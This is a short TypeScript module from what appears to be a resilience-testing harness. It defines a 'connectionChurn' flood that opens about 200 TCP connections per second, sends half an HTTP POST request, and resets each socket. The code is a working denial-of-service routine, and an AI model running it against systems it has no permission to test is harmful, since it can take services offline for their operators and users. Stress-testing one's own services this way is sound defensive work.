import { connect } from "node:net"
import { type Attack, flood } from "./Attack.js"

const perSecond = 200

/** Opens connections, sends half a request, and resets them. */
export const connectionChurn: Attack = (context) => {
  const { hostname, port } = new URL(context.origin)
  return flood(
    context,
    perSecond,
    () =>
      new Promise<void>((resolve) => {
        const socket = connect({ host: hostname, port: Number(port), localAddress: context.address })
        let result = "opened and reset"
        socket.once("connect", () =>
          socket.write("POST /api/v1/messages HTTP/1.1\r\nHost: a\r\n", () => socket.resetAndDestroy())
        )
        socket.on("error", (error: NodeJS.ErrnoException) => {
          result = error.code ?? "failed"
        })
        socket.once("close", () => {
          context.count(result)
          resolve()
        })
      })
  )
}
